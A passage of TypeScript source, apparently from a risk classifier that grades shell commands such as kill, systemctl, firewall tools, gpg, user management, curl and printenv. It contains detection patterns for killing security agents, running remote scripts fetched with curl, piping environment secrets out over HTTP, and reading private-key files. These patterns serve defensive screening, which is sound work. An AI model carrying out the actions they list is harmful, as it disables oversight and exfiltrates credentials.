    const pos = positionals(cmd.args, ['-i', '-P', '-o', '-F', '-l', '-c', '-S', '-J', '-e']);
    const m = /^(?:[^@/]*@)?([\d.]+):/.exec(pos[pos.length - 1] ?? '');
    if (!m || !publicV4(m[1] as string)) return undefined;
    return pos.slice(0, -1).some((p) => PROD_DATA_PATH.test(p)) ? 'data files' : undefined;
  }
  return undefined;
}

/** Desktop shell processes the system restarts at once. */
const DESKTOP_SHELL = /^(?:Finder|Dock|SystemUIServer|ControlCenter|NotificationCenter|cfprefsd|explorer(?:\.exe)?|plasmashell|gnome-shell|xfce4-panel|waybar|polybar)$/;

const kill: Handler = (cmd) => {
  const pos = positionals(cmd.args, ['-s', '-n', '-u', '--signal']);
  if (cmd.args.includes('-l') || cmd.args.includes('-L')) return [f('safe', 'lists signal names')];
  if (pos.includes('1') || pos.includes('-1') || cmd.args.includes('-1')) return [f('dangerous', `kills every process or init (${cmd.text})`)];
  if (cmd.name === 'killall5' || (cmd.name === 'pkill' && hasFlag(cmd.args, 'u', '--euid', '--uid'))) return [f('dangerous', `kills many processes (${cmd.text})`)];
  // (cls-shell19) The audit daemon or a security agent killed by name or pid lookup (pkill auditd, kill $(pidof falcon-sensor)):
  // that control stops, as `systemctl stop` of it reads.
  const named = `${pos.join(' ')} ${cmd.text}`;
  if (/(?:^|[\s/(])(?:auditd|kauditd|go-audit)(?:$|[\s)])/.test(named)) return [{ ...f('forbidden', `kills the audit daemon, so audit logging stops (${snippet(cmd.text, 50)})`), unknown: 'forbidden', dev: 'dangerous', staging: 'dangerous', local: false }];
  if (/(?:^|[\s/(])(?:falcon-sensor|falcond|falcon-agent|sentineld|sentinelagent|s1-agent|mdatp|wdavdaemon|osqueryd|wazuh-agentd|ossec-agentd|elastic-agent|cbagentd|cbdaemon|sophos\w*|esets?d?|clamd|santad|jamf|mcafee\w*|taniumclient|ir_agent|cyserver|xagt|splunkd|auditbeat|rsyslogd|syslog-ng|systemd-journald)(?:$|[\s)])/i.test(named)) return [f('dangerous', `kills a security, audit or logging agent, so that control stops (${snippet(cmd.text, 50)})`)];
  if (pos.some((p) => /^(postgres|postmaster|mysqld|mariadbd|mongod|redis-server|dockerd|containerd|kubelet|etcd|sshd|systemd|init|elasticsearch|kafka)$/.test(p))) return [f('dangerous', `kills a database or system daemon (${snippet(cmd.text, 50)})`, true)];
  // cls-benign14: the agent's own dev server, watcher or shell job on this machine — a job of this shell (`kill %1`), a
  // process found by its local port (`kill $(lsof -t -i:3000)`), a dev server by its command line (`pkill -f "next dev"`)
  // — stops and starts again at will (reversible). A database or system port, another host or root keep the reading below.
  if (!cmd.host && !cmd.sudo && ownDevProcess(cmd.pipeIn?.name === 'lsof' ? `${cmd.pipeIn.text} ${cmd.text}` : cmd.text, pos)) return [f('reversible', `stops a local dev server, watcher or shell job (${snippet(cmd.text, 50)})`)];
  // (lead17) The desktop's own shell processes (killall Finder / Dock after `defaults write`, explorer.exe, plasmashell)
  // come straight back: the usual way to apply a desktop setting.
  if (!cmd.host && pos.length > 0 && pos.every((p) => DESKTOP_SHELL.test(p))) return [f('reversible', `restarts the desktop's own shell so a setting applies (${snippet(cmd.text, 50)})`)];
  return [f('destructive', `terminates running processes (${snippet(cmd.text, 50)})`, true)];
};

/** cls-benign14: a port freer (`npx kill-port 3000`, `fkill :8080`) stops what listens on a local port: a dev server unless the port is a service's. */
const killPort: Handler = (cmd) => {
  const ports = positionals(cmd.args, []).map((x) => x.replace(/^:/, ''));
  if (!cmd.host && !cmd.sudo && ports.length > 0 && ports.every((p) => /^\d{2,5}$/.test(p) && !SERVICE_PORT.test(p))) return [f('reversible', `stops the local dev process on a port (${snippet(cmd.text, 50)})`)];
  return [f('destructive', `terminates running processes (${snippet(cmd.text, 50)})`, true)];
};

/** A dev server, watcher or test runner named by its command line (cls-benign14, with cls-code14's tools). */
const DEV_PROCESS = /\b(?:next(?:\s+|-)dev|vite|webpack(?:-dev-server)?|nodemon|(?:npm|yarn|pnpm|bun)(?:\s+run)?\s+(?:dev|start|watch|serve)|rails\s+s(?:erver)?|flask\s+run|uvicorn\b.*--reload|http\.server|ng\s+serve|react-scripts\s+start|jest\s+--watch|vitest|tsc\s+(?:-w|--watch)|storybook|expo\s+start|hugo\s+server|jekyll\s+serve|live-server|esbuild\b.*--watch|gatsby\s+develop|astro\s+dev|nuxt\s+dev|remix\s+dev|ts-node-dev|tsx\s+watch|jest|esbuild|parcel|metro|expo|jupyter(?:-lab|-notebook|\s+lab|\s+notebook)?|mkdocs\s+serve|docusaurus\s+(?:start|serve)|sphinx-autobuild|tensorboard|mlflow\s+ui|streamlit\s+run|dagster\s+dev|(?:pio|platformio)\s+device\s+monitor|idf\.py\b.*\bmonitor|JLinkGDBServer\w*|openocd|qemu-system-\w+|renode|GradleDaemon|KotlinCompileDaemon|flutter\s+run|react-native\s+start|adb\s+logcat)\b/i;
// (cls-benign25: notebooks, docs servers, ML dashboards, a board's serial monitor or debug server, emulators, build daemons.)
/** Ports of databases, brokers and system services: what listens there is no dev server. */
const SERVICE_PORT = /^(?:2[0-5]|53|80|443|1433|1521|2049|2379|2380|3306|5432|5672|6379|6443|8200|8500|9042|9092|9200|9300|10250|11211|15672|27017)$/;
function ownDevProcess(text: string, pos: readonly string[]): boolean {
  if (pos.length > 0 && pos.every((p) => /^%\d*$|^%[+-]$/.test(p))) return true;
  const port = /\blsof\b[^)`|;]*?\s-[a-z]*i\s*(?:tcp|udp)?:?(\d{2,5})\b|\bfuser\b[^)`|;]*?\b(\d{2,5})\/tcp\b/i.exec(text);
  if (port) return !SERVICE_PORT.test((port[1] ?? port[2]) as string);
  return /^(?:pkill|killall)\b/.test(text.trim()) && DEV_PROCESS.test(pos.join(' '));
}

const power: Handler = (cmd) => {
  if (cmd.args.includes('-c') || cmd.args.includes('--help')) return [f('safe', `cancels or inspects a shutdown (${cmd.text})`)];
  return [f('dangerous', `shuts down or restarts the machine (${snippet(cmd.text, 40)})`, true)];
};

const SECURITY_SERVICES = /^(auditd|firewalld|ufw|apparmor|selinux|fail2ban|sshd?|ssh\.service|sshd\.service|crowdstrike|falcon-sensor|osqueryd|wazuh-agent|clamav|clamav-daemon|clamd|rsyslog|syslog|systemd-journald|journald|opendkim|opendmarc|amavis|amavisd|spamassassin|spamd|rspamd|suricata|snort|zeek|aide)(\.service)?$/;
const systemctl: Handler = (cmd) => {
  const pos = positionals(cmd.args);
  const verb = (pos[0] ?? '').toLowerCase();
  const units = pos.slice(1);
  const how = snippet(cmd.text, 50);
  if (['status', 'show', 'list-units', 'list-unit-files', 'is-active', 'is-enabled', 'cat', 'list-timers', 'is-failed', 'help'].includes(verb)) return [f('safe', `inspects services (${how})`)];
  if (cmd.name === 'service' && (units[0] === 'status' || pos[1] === 'status')) return [f('safe', `inspects a service (${how})`)];
  const unitWords = cmd.name === 'service' ? [verb] : units;
  const action = cmd.name === 'service' ? (pos[1] ?? '').toLowerCase() : verb;
  const sec = unitWords.some((u) => SECURITY_SERVICES.test(u));
  if (['stop', 'disable', 'mask', 'kill'].includes(action)) {
    if (!sec && unitWords.some((u) => BACKUP_JOB_NAME.test(u))) return [backupsStopped(how)];
    if (sec) return [f(/^(auditd|rsyslog|syslog|systemd-journald|journald)/.test(unitWords.join(' ')) ? 'forbidden' : 'dangerous', `stops a security or logging service (${how})`)];
    return [f('destructive', `stops or disables a service (${how})`, true)];
  }
  // Enabling a unit adds a start-up entry or a timer's schedule: a new scheduled job (LABELS: at least destructive).
  if (action === 'enable' || action === 'unmask') return [f('destructive', `enables a service or timer to run at boot or on a schedule (${how})`)];
  if (['restart', 'reload', 'start', 'daemon-reload', 'try-restart', 'reload-or-restart'].includes(action)) return [f('reversible', `starts or restarts a service (${how})`, true)];
  if (['poweroff', 'reboot', 'halt', 'kexec', 'rescue', 'emergency'].includes(action)) return [f('dangerous', `shuts down or restarts the machine (${how})`, true)];
  return [f('reversible', `manages services (${how})`, true)];
};

const firewall: Handler = (cmd) => {
  const a = cmd.args.map((x) => x.toLowerCase());
  const how = snippet(cmd.text, 50);
  if (cmd.name === 'ufw') {
    if (a[0] === 'disable' || a[0] === 'reset') return [f('dangerous', `disables the firewall (${how})`)];
    if (a[0] === 'status' || a[0] === 'show' || a[0] === 'app' && a[1] === 'list') return [f('safe', `shows firewall status (${how})`)];
    if (a[0] === 'allow' || a[0] === 'insert' && a.includes('allow')) {
      const from = a.indexOf('from');
      const src = from >= 0 ? a[from + 1] ?? '' : 'any';
      if (src === 'any' || src === '0.0.0.0/0' || src === '::/0') return [f('dangerous', `opens a port to every source address (${how})`)];
      return [{ ...f('destructive', `opens a port to a named source (${how})`), local: true }];
    }
    return [{ ...f('destructive', `changes firewall rules (${how})`, true), local: true }];
  }
  // (cls-en16) nft: `flush ruleset` / `delete table` drops the firewall like `iptables -F`; `-f FILE` loads a ruleset
  // (a change, not a flush), and `-c` only checks it.
  if (cmd.name === 'nft') {
    if (a.includes('-c') || a.includes('--check')) return [f('safe', `checks a firewall ruleset (${how})`)];
    if (/^(?:flush|delete|destroy)$/.test(a[0] ?? '') && /^(?:ruleset|table|chain)$/.test(a[1] ?? '')) return [f('dangerous', `flushes or deletes firewall rules (${how})`)];
    if (a.includes('-f') || a.includes('--file')) return [f('destructive', `loads a firewall ruleset from a file (${how})`, true)];
  }
  // (lead19) BSD/macOS pf: -d disables the packet filter, -F flushes its rules (all, rules, nat, states); -s shows and
  // -n only parses; -f loads a ruleset from a file; -e enables. (Case matters: -f and -F differ.)
  if (cmd.name === 'pfctl') {
    const raw = cmd.args;
    if (raw.some((x) => /^-[A-Za-z]*n[A-Za-z]*$/.test(x) || /^-s[A-Za-z]*$/.test(x))) return [f('safe', `shows or checks packet-filter rules (${how})`)];
    if (raw.includes('-d')) return [f('dangerous', `disables the packet filter (${how})`)];
    if (raw.includes('-F')) return [f('dangerous', `flushes packet-filter rules (${how})`)];
    if (raw.includes('-f')) return [f('destructive', `loads packet-filter rules from a file (${how})`, true)];
    if (raw.includes('-e')) return [f('reversible', `enables the packet filter (${how})`)];
  }
  if (cmd.name === 'setenforce') return a[0] === '0' || a[0] === 'permissive' ? [f('dangerous', `turns off SELinux enforcement (${how})`)] : [f('reversible', `sets SELinux mode (${how})`)];
  if (a.includes('-l') || a.includes('-L') || a.includes('--list') || a.includes('-s') || a.includes('-S') || a.includes('--list-rules') || a[0] === 'list' || a.includes('list') && cmd.name === 'nft' || a.includes('-n') && a.includes('-v')) return [f('safe', `lists firewall rules (${how})`)];
  if (a.includes('-f') || a.includes('--flush') || a.includes('-x') || a.includes('-p') && a.includes('accept')) return [f('dangerous', `flushes or opens up the firewall (${how})`)];
  return [f('destructive', `changes firewall rules (${how})`, true)];
};

const historyCmd: Handler = (cmd) => {
  if (cmd.args.includes('-c') || cmd.args.includes('-w') && cmd.args.includes('-c')) return [f('dangerous', `erases the shell history (${cmd.text})`)];
  return [f('safe', 'prints shell history')];
};

/** A Git server's store of hosted repositories (GitLab git-data, Gitea, Gogs, a plain /srv/git). */
const REPOS_DIR = /(?:^|[\\/])(?:repositories|git-data|gitea-repositories|gogs-repositories)(?:[\\/]\*?)?$|^\/(?:srv|var|opt|home)\/git(?:[\\/]\*?)?$/i;

/** Groups whose members are root or can become it (sudo, wheel, docker's socket, lxd, libvirt, raw disks). */
const ROOT_GROUPS = /(?:^|[\s,])(?:sudo|wheel|admin|admins|root|docker|lxd|libvirt|disk|shadow)(?:$|[\s,])/;

/** (lead15) gpg: a private key exported or deleted cannot be taken back or recreated. */
const gpg: Handler = (cmd) => {
  const a = cmd.args;
  const how = snippet(cmd.text, 60);
  if (a.some((x) => /^--export-secret-(?:sub)?keys$/.test(x))) return [f('dangerous', `exports a private key (${how})`)];
  if (a.some((x) => /^--delete-secret(?:-and-public)?-keys?$/.test(x))) return [f('dangerous', `deletes a private key, which cannot be recreated (${how})`)];
  // (cls-interp22) Someone's public key deleted from the keyring: what was encrypted to them or verified by them no longer
  // can be until it is fetched again (a limited, recoverable change that matters).
  if (a.some((x) => /^--delete-keys?$/.test(x))) return [f('destructive', `deletes a public key from the keyring (${how})`)];
  if (a.some((x) => /^--(?:import|recv-keys?|receive-keys|edit-key|quick-gen-key|gen-key|full-gen-key|lsign-key|sign-key)$/.test(x))) return [f('reversible', `changes the local keyring (${how})`)];
  return [f('safe', `gpg: signs, verifies, encrypts or lists (${how})`)];
};

/** (lead15) Commit-hook managers uninstalled: the checks they ran (secret scanning, linters) stop for every later commit. */
const hookManager: Handler = (cmd) => {
  const how = snippet(cmd.text, 60);
  if (cmd.args[0] === 'run' || cmd.args[0] === 'try-repo') return [f('safe', `runs the commit hooks' checks (${how})`)];
  if (cmd.args.some((x) => /^(?:uninstall|--uninstall|remove|clean-hooks)$/.test(x))) return [f('dangerous', `removes the repository's commit hooks, and the checks they run (${how})`)];
  return [f('reversible', `manages the repository's commit hooks (${how})`)];
};

/**
 * (cls-shell19) One account deleted, on every platform alike (userdel, deluser, `net user x /delete`, Remove-LocalUser,
 * `dscl . -delete /Users/x`, `sysadminctl -deleteUser`): another person's sign-in gone for good, and with the home directory
 * their files too. Where nothing names the machine it counts as possibly a server (dangerous); a named dev machine keeps
 * the account alone at destructive.
 */
export function accountDeleted(how: string, home: boolean): Finding {
  if (home) return f('dangerous', `deletes a user account and its home directory (${how})`, true);
  return { level: 'dangerous', staging: 'dangerous', dev: 'destructive', local: false, reason: `deletes a user account (${how})` };
}

const users: Handler = (cmd) => {
  const how = snippet(cmd.text, 50);
  if (cmd.name === 'userdel' || cmd.name === 'deluser') return [accountDeleted(how, cmd.args.some((x) => /^-[a-zA-Z]*r[a-zA-Z]*$|^--remove(?:-all-files|-home)$/.test(x)))];
  // (cls-shell19) passwd -S / --status only shows an account's password state.
  if (cmd.name === 'passwd' && cmd.args.some((x) => x === '-S' || x === '--status')) return [f('safe', `shows an account's password status (${how})`)];
  if (cmd.name === 'passwd') return [f(cmd.args.includes('-d') ? 'dangerous' : 'destructive', `changes an account password (${how})`, true)];
  // (lead15) Membership of docker, lxd, libvirt or disk is root by another door: the same as sudo.
  if (/^(?:usermod|useradd|adduser|gpasswd)$/.test(cmd.name) && ROOT_GROUPS.test(cmd.args.join(' '))) return [f('dangerous', `grants administrator rights (${how})`)];
  if (cmd.name === 'useradd' || cmd.name === 'adduser') return [f('destructive', `adds a user account (${how})`, true)];
  if (cmd.name === 'visudo') return cmd.args.includes('-c') || cmd.args.includes('--check') ? [f('safe', `checks sudoers syntax (${how})`)] : [f('dangerous', 'edits sudo rights')];
  return [f('destructive', `changes user accounts (${how})`, true)];
};

/** curl, wget, httpie and Invoke-WebRequest/RestMethod, read as an HTTP request. */
function networkCmd(cmd: Cmd, ctx?: Parameters<Handler>[1]): Finding[] {
  const a = cmd.args;
  const out = redirectFindings(cmd, false);
  const output = optValue(a, '-o', '--output', '-O', '-OutFile', '-outfile');
  if (output && output !== '-') out.push(f('reversible', `downloads to ${output}`));
  const call = httpFromArgs(cmd);
  if (!call) return out.length ? out : [unplacedRun('safe', `network command (${snippet(cmd.text, 50)})`)];
  // A request repeated by a shell loop (for id in …; while read …; xargs) acts on a set, or on every item of a whole listing.
  if (cmd.bulk && !call.bulk) call.bulk = cmd.every ? 'all' : 'some';
  // (cls-sdk21) The script's comments say what the body does not (# 60k EUR to the new supplier).
  if (cmd.note && call.context === undefined) call.context = cmd.note;
  if (ctx) call.run = { code: ctx.code, shell: ctx.inner };
  // A captured access token placed in the URL or the data (not an Authorization header) leaves with the request.
  if (!call.secretStdin && TOKEN_SUBSTITUTION.test(cmd.text) && !/(?:-H|--header|-Headers|--oauth2-bearer)[\s=]+["']?[^"'\n]*\$\(\s*(?:gcloud|az|aws)\b/.test(cmd.text)) call.secretStdin = 'an access token';
  return out.concat(readHttp(call));
}

const DATA_OPTS = /^(?:-d|--data|--data-raw|--data-binary|--data-urlencode|--data-ascii|--json|-F|--form|--form-string|--post-data|--post-file|--body-data|--body-file|-Body|-InFile|-T|--upload-file)$/i;

export function httpFromArgs(cmd: Cmd): HttpCall | null {
  const a = cmd.args;
  let method = '';
  let url = '';
  const body: string[] = [];
  const files: string[] = [];
  const headers: string[] = [];
  // httpie's query parameters (name==value) and JSON fields (name=value, name:=raw).
  const query: string[] = [];
  const json: string[] = [];
  const isWget = cmd.name === 'wget';
  const isHttpie = cmd.name === 'http' || cmd.name === 'https' || cmd.name === 'xh' || cmd.name === 'curlie';
  // curl -G / --get: the data goes into the query string of a GET.
  let get = false;
  let explicit = false;
  for (let i = 0; i < a.length; i++) {
    const x = a[i] as string;
    const eq = x.indexOf('=');
    const key = x.startsWith('--') && eq > 0 ? x.slice(0, eq) : x;
    const inlineVal = x.startsWith('--') && eq > 0 ? x.slice(eq + 1) : undefined;
    if (/^(?:-X|--request|--method|-Method|-method)$/.test(key)) {
      method = (inlineVal ?? a[++i] ?? '').toUpperCase();
      explicit = true;
      continue;
    }
    if (/^-X[A-Z]+$/.test(x)) {
      method = x.slice(2).toUpperCase();
      explicit = true;
      continue;
    }
    // (lead16) curl's short options bundled with -X last (`-sX DELETE`, `-fsSLX PATCH`) or with its value (`-sXDELETE`).
    if (!isWget && !isHttpie && /^-[a-zA-Z]*[a-zA-WYZ][a-zA-Z]*X(?:[A-Z]+)?$/.test(x) && /^-[a-zA-Z]+$/.test(x)) {
      const at = x.indexOf('X', 2);
      method = (x.length > at + 1 ? x.slice(at + 1) : a[++i] ?? '').toUpperCase();
      explicit = true;
      continue;
    }
    if (!isWget && !isHttpie && (x === '-G' || x === '--get')) {
      get = true;
      continue;
    }
    if (/^(?:-H|--header|-Headers|-headers)$/.test(key)) {
      headers.push(inlineVal ?? a[++i] ?? '');
      continue;
    }
    if (/^(?:-u|--user|--oauth2-bearer|-Credential|-Token)$/.test(key) || isHttpie && (key === '-a' || key === '--auth')) {
      // Credentials authenticate (kept with the headers: a test-mode or live key says which environment).
      headers.push(inlineVal ?? a[++i] ?? '');
      continue;
    }
    // (lead25) httpie's and xh's --raw carries the request body as given (curl's own --raw is a flag without a value).
    if (isHttpie && key === '--raw') {
      body.push(inlineVal ?? a[++i] ?? '');
      if (!method) method = 'POST';
      continue;
    }
    if (DATA_OPTS.test(key)) {
      const v = inlineVal ?? a[++i] ?? '';
      if (key === '-T' || key === '--upload-file' || key === '-InFile' || key === '--post-file' || key === '--body-file') files.push(v);
      else {
        const at = /(?:^|=|^[\w.-]+)@([^;@]+)$/.exec(v);
        if (at && at[1] !== '-') files.push(at[1] as string);
        else if (at) files.push('-');
        body.push(v);
      }
      if (!method) method = 'POST';
      continue;
    }
    if (/^-Uri$|^--url$/i.test(key)) {
      url = inlineVal ?? a[++i] ?? '';
      continue;
    }
    if (/^(?:https?|s?ftps?|scp):\/\//i.test(x) || (/^[\w.-]+\.[a-z]{2,}(?:[:/]|$)/i.test(x) && !x.includes('@'))) {
      if (!url) url = /^[a-z]+:\/\//i.test(x) ? x : `https://${x}`;
      continue;
    }
    // (cls-api14) A base address held in a variable, then the path ("$VAULT_ADDR/v1/sys/audit/file",
    // "${SF_INSTANCE}/services/data/…"): the request goes to that path on a host the text does not name.
    const varBase = /^\$\{?([A-Za-z_]\w*)\}?(\/[^\s]*)$/.exec(x);
    // (lead15) Any other name followed by an API path ("$OKTA/api/v1/users", "$JC/api/systems/…") is the same, unless the
    // name is a local place ($HOME, $BUILD_DIR, $OUT_FILE).
    if (varBase && (/(?:URL|URI|ADDR|ADDRESS|HOST|INSTANCE|ENDPOINT|BASE|API|SERVER|DOMAIN|ORIGIN)/i.test(varBase[1] as string) || (!/(?:HOME|PWD|DIR|PATH|FILE|TMP|TEMP|FOLDER|ROOT|PROFILE)$/i.test(varBase[1] as string) && /^\/(?:api|v\d+(?:\.\d+)?|rest|services|admin|graphql|scim)(?:\/|$)|\/v\d+(?:\.\d+)?\//i.test(varBase[2] as string))) && !/^(?:-o|--output|-O|--remote-name|-K|--config|--cacert|--cert|--key|-c|-b|--cookie|--cookie-jar)$/.test(a[i - 1] ?? '')) {
      if (!url) url = `https://${(varBase[1] as string).toLowerCase()}${varBase[2] as string}`;
      continue;
    }
    // A bare host with a port (es-prod:9200/_cluster/settings, localhost:8080/api): curl assumes http://.
    if (/^[a-z][\w-]*:\d{2,5}(?:[/?]|$)/i.test(x)) {
      if (!url) url = `http://${x}`;
      continue;
    }
    // (xh and httpie take the method in any case before the URL: `xh delete …`.)
    if (isHttpie && (/^(?:GET|POST|PUT|PATCH|DELETE|HEAD)$/.test(x) || (!url && /^(?:get|post|put|patch|delete|head)$/i.test(x)))) {
      method = x.toUpperCase();
      continue;
    }
    if (isHttpie && /^[\w.[\]-]+==/.test(x)) {
      // httpie's name==value is a query parameter, not a body field.
      query.push(x.replace('==', '='));
      continue;
    }
    if (isHttpie && /^[\w.[\]-]+(?::=|=)/.test(x)) {
      // name=value is a JSON string field and name:=raw a raw JSON value: written out as the JSON object httpie sends.
      const m = /^([\w.[\]-]+)(:?=)([\s\S]*)$/.exec(x) as RegExpExecArray;
      json.push(`${JSON.stringify(m[1])}: ${m[2] === ':=' ? m[3] : JSON.stringify(m[3])}`);
      if (!method) method = 'POST';
      continue;
    }
    if (isHttpie && /^[\w.-]+@/.test(x)) {
      body.push(x);
      if (!method) method = 'POST';
    }
  }
  if (!url) return null;
  // (lead25) What the request reads on stdin when the text shows it (echo '{…}' | http POST …, a here-string or heredoc
  // into curl --data @-): httpie sends its stdin as the body, curl sends it for @-.
  if (cmd.stdin !== undefined && cmd.stdin.length < 20_000) {
    if (isHttpie && body.length === 0 && json.length === 0) {
      body.push(cmd.stdin);
      if (!method) method = 'POST';
    } else if (files.includes('-')) body.push(cmd.stdin);
  }
  if (json.length) body.unshift(`{${json.join(', ')}}`);
  if (query.length) url = `${url}${url.includes('?') ? '&' : '?'}${query.join('&')}`;
  if (get && !explicit) {
    const q = body.join('&');
    return { method: 'GET', url: q ? `${url}${url.includes('?') ? '&' : '?'}${q}` : url, body: '', files, headers };
  }
  if (!method) method = isWget && a.some((x) => /^--post-(?:data|file)/.test(x)) ? 'POST' : 'GET';
  const call: HttpCall = { method, url, body: body.join('&'), files, headers };
  // Data piped in from a command that prints secrets: printenv | curl --data-binary @-.
  if (files.includes('-') && cmd.pipeIn) {
    const src = secretSource(cmd.pipeIn);
    if (src) call.secretStdin = src;
    // (lead20) Otherwise the file the pipeline reads is what is sent (cat customers.csv | curl --data-binary @- …,
    // gsutil cat gs://…/customers.csv | curl -F payload=@- …): judged as if named after the @.
    else {
      const piped = pipedFiles(cmd.pipeIn);
      if (piped.length) call.files = [...files, ...piped];
    }
  }
  return call;
}

/** Programs that print a file (local or in a bucket) unchanged or compressed, so what they print is that file. */
const FILE_PRINTERS = /^(?:cat|zcat|gzcat|bzcat|xzcat|head|tail|gzip|bzip2|xz|zstd|base64|jq|csvcut|csvgrep|xsv|mlr|type|get-content|gc)$/;
/** The files a pipeline feeding stdin reads, walking back through printers and cloud-storage cat/cp to stdout. */
function pipedFiles(feed: Cmd | null): string[] {
  const out: string[] = [];
  for (let c = feed, guard = 0; c && guard < 6; c = c.pipeIn, guard++) {
    const a = c.args;
    const cloudCat = (c.name === 'gsutil' && a[0] === 'cat') || (c.name === 'gcloud' && a[0] === 'storage' && a[1] === 'cat') || ((c.name === 'aws' && a[0] === 's3' && a[1] === 'cp') || (c.name === 'gsutil' && a[0] === 'cp')) && a.includes('-');
    if (cloudCat || FILE_PRINTERS.test(c.name)) for (const p of positionals(a)) if (/[./]/.test(p) && p !== '-' && !/^(?:cat|cp|storage|s3)$/.test(p) && !/^[.[{]/.test(p.trim()) || /^(?:gs|s3):\/\//.test(p)) out.push(p);
  }
  return out;
}

function shellC(cmd: Cmd, ctx: Parameters<Handler>[1]): Finding[] {
  const a = cmd.args;
  const ci = a.findIndex((x) => x === '-c' || x === '-Command' || x === '-command' || x === '/c' || x === '/C' || x === '-EncodedCommand' || x === '-e' && cmd.name !== 'sh');
  if (ci >= 0 && a[ci] !== '-EncodedCommand' && a[ci] !== '-e') {
    const line = a.slice(ci + 1).join(' ');
    if (/\$\((?:curl|wget)\b|<\((?:curl|wget)\b/.test(line)) return [f('dangerous', `runs a remote script fetched at run time (${snippet(line, 50)})`)];
    return ctx.inner(line);
  }
  if (ci >= 0) return [f('dangerous', `runs an encoded, unreadable command (${snippet(cmd.text, 50)})`)];
  if (a.some((x) => /^<\((?:curl|wget)\b/.test(x))) return [f('dangerous', `runs a remote script fetched at run time (${snippet(cmd.text, 50)})`)];
  const script = positionals(a)[0];
  if (script && !cmd.pipeIn) return ctx.byName(script, cmd);
  return [];
}

/** A substitution that captures a cloud CLI's access token. */
const TOKEN_SUBSTITUTION = /\$\(\s*(?:gcloud\b[^)]*\bprint-(?:access|identity)-token|az\s+account\s+get-access-token|aws\s+(?:ecr\s+get-login-password|sts\s+get-session-token|codeartifact\s+get-authorization-token))/;

function echoLike(cmd: Cmd): Finding[] {
  const empty = cmd.name === ':' || cmd.name === 'true' || positionals(cmd.args).every((x) => x === '' || x === '-n');
  const out = redirectFindings(cmd, empty);
  if (!out.length) {
    const secret = (cmd.name === 'echo' || cmd.name === 'printf') && cmd.args.find((x) => SECRET_VAR.test(x));
    if (secret) out.push(readSecret(`prints a secret value (${snippet(secret, 30)})`, true));
    // echo $(gcloud auth print-access-token): the captured token is printed after all.
    else if ((cmd.name === 'echo' || cmd.name === 'printf') && TOKEN_SUBSTITUTION.test(cmd.text)) out.push(f('destructive', `prints a live access token (${snippet(cmd.text, 40)})`));
    else out.push(f('safe', `prints text (${snippet(cmd.text, 40)})`));
  }
  return out;
}

/** Printing the environment: its secrets enter the transcript (a production container's are live credentials). */
function printenv(cmd: Cmd): Finding[] {
  const pos = positionals(cmd.args);
  if (cmd.name === 'env' && pos.length > 0) return [];
  // Filtered by grep: a count, or a pattern that names no secret (PATH, LANG), prints no secret.
  const grep = cmd.pipeOut && /^(?:grep|egrep|rg|findstr)$/.test(cmd.pipeOut.name) ? cmd.pipeOut : undefined;
  const grepPattern = grep ? positionals(grep.args).join(' ') : '';
  if (grep && pos.length === 0 && (grep.args.some((x) => /^-[a-zA-Z]*c[a-zA-Z]*$|^--count$/.test(x)) || (grepPattern !== '' && !/token|secret|key|pass|pwd|cred|auth|session|cookie|private|api|dsn|database_url|conn/i.test(grepPattern)))) return [f('safe', `prints environment variables that hold no secret (${snippet(cmd.text, 40)})`)];
  const counted = cmd.pipeOut && ['wc'].includes(cmd.pipeOut.name);
  const namesOnly = cmd.pipeOut && ['cut', 'awk'].includes(cmd.pipeOut.name) && /-d\s*=|-f\s*1|\$1/.test(cmd.pipeOut.text);
  const secretRead = (what: string): Finding => readSecret(`${what} into the transcript (${snippet(cmd.text, 50)})`, true);
  if (pos.length === 0 && !counted && !namesOnly) return [secretRead('prints every environment variable, including any secrets,')];
  if (pos.some((p) => SECRET_VAR.test(`$${p}`))) return [secretRead('prints a secret environment variable')];
  return [f('safe', `prints environment variables (${snippet(cmd.text, 40)})`)];
}

/** (lead18) A private key's file (LABELS: printing or exporting one is dangerous, wherever it sits): ssh identities, key and
 * keystore files, wallet keypairs. A certificate or public half is not one. */
const PRIVATE_KEY_FILE = /(?:^|\/)(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:[_-][\w-]+)?|[\w.-]*(?:priv|private|signing|secret)[\w.-]*\.(?:pem|asc)|[\w.-]+\.(?:key|p12|pfx|ppk|jks|keystore)|wallet\.dat|[\w.-]*keypair[\w.-]*\.json)$|\.config\/solana\/[\w.-]+\.json$|\/\.(?:ethereum|foundry)\/keystores?\/[^/]+$/i;

function readsFiles(cmd: Cmd): Finding[] {
  const out: Finding[] = [];
  for (const p of cmd.args) {
    const k = pathKind(p.startsWith('@') ? p.slice(1) : p);
    if (k === 'secret') out.push(PRIVATE_KEY_FILE.test(p.replace(/\\/g, '/')) ? f('dangerous', `prints a private key into the agent's context (${p})`) : readSecret(`reads a credentials file into the agent's context (${p})`, true));
  }
  if (cmd.pipeOut?.name === 'base64' && cmd.pipeOut.args.some((x) => x === '-d' || x === '--decode' || x === '-D')) {
    out.push(f('destructive', `decodes secret material to plain text (${snippet(cmd.text, 40)})`));
  }
  return out;
}

// ------------------------------------------------------------------ PowerShell / cmd.exe

function psFlag(args: readonly string[], ...names: string[]): boolean {
  return args.some((a) => names.some((n) => a.toLowerCase() === n || (a.toLowerCase().startsWith(n) && a.length >= 3 && n.startsWith(a.toLowerCase()))));
}

const psRemove: Handler = (cmd) => {
  if (psFlag(cmd.args, '-whatif')) return [f('safe', `only previews what would be deleted (-WhatIf) (${snippet(cmd.text, 50)})`)];
  const src = cmd.pipeIn;
  if (src && /^(get-childitem|gci|ls|dir)$/.test(src.name) && !cmd.args.some((x, i) => !x.startsWith('-') && !/^-(?:erroraction|ea|warningaction|include|exclude|filter)$/i.test(cmd.args[i - 1] ?? ''))) {
    const inc = psParam(src.args, 'Include') ?? psParam(src.args, 'Filter') ?? psParam(src.args, 'Name') ?? '';
    const names = inc.split(',').map((x) => x.trim()).filter(Boolean);
    // (cls-shell19) A backup directory listed by kind (`Get-ChildItem D:\\Backups -Filter *.bak | Remove-Item`): every backup
    // of that kind kept there, as `Remove-Item D:\\Backups\\*.bak` reads; a `.bak` elsewhere stays a scratch copy.
    const listedDir = psParam(src.args, 'Path') ?? psParam(src.args, 'LiteralPath') ?? positionals(src.args.filter((x, i) => !/^-(?:include|filter|name|exclude|depth|attributes)$/i.test(src.args[i - 1] ?? '')))[0];
    if (listedDir && names.length && names.every((n) => /^\*(?:\.[a-z0-9]{1,8}){1,2}$/i.test(n)) && names.some((n) => backupKindGlob(`${listedDir.replace(/[\\/]+$/, '')}/${n}`))) {
